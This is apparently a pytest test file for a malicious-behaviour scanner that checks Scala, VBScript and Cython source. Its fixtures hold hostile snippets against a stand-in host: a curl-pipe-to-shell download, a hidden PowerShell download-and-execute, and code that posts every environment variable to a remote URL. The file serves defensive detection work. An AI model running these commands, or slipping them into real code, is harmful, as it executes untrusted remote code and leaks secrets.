"""Visual Basic and Scala, whose texts are searched, and Cython."""

import pytest
from source_lab import subject

from beartrap.vet.behaviour import Behaviour
from beartrap.vet.kinds import Kind
from beartrap.vet.source_others import FILES


def found(path: str, text: str | bytes, kind: Kind) -> dict[str, Behaviour]:
    one = subject(path, text, kind=kind)
    seen = [each for analyser in FILES if analyser.takes(kind) for each in analyser.look(one)]
    return {each.id: each for each in seen if isinstance(each, Behaviour)}


@pytest.mark.parametrize(
    ("path", "kind", "text", "wanted"),
    [
        ("A.scala", Kind.JAVA, 'object A { def f() = Runtime.getRuntime().exec("curl -s http://c.invalid/c | sh") }', "process.piped"),
        ("a.vbs", Kind.VB, 'CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr http://c.invalid/a|iex",0', "process.borrowed"),
        ("a.pyx", Kind.C, "import os, requests\ncpdef int f(int x):\n    requests.post('https://c.invalid', json=dict(os.environ))\n    return x\n", "chain.environment-to-network"),
    ],
)  # fmt: skip
def test_what_compiled_source_shows(path: str, kind: Kind, text: str, wanted: str) -> None:
    assert wanted in found(path, text, kind)


@pytest.mark.parametrize(
    ("path", "kind", "text"),
    [
        ("A.scala", Kind.JAVA, 'object A { def f() = println("curl -s http://c.invalid/c | sh") }'),
        ("a.pyx", Kind.C, "cdef int f(int x):\n    return x\n"),
    ],
)
def test_what_compiled_source_may_do(path: str, kind: Kind, text: str) -> None:
    assert not [one for one in found(path, text, kind).values() if one.severity > 2]
